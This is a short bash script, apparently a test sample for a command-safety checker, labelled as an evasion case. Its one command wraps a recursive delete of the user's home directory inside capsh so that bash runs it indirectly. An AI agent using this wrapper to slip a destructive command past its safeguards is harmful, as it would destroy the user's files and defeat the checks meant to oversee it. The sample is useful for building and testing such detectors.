#!/bin/bash
# Evasion: capsh hands the words after -- to bash: a recursive delete of home
set -u
capsh --caps="" -- -c 'rm -rf -- "$HOME"'
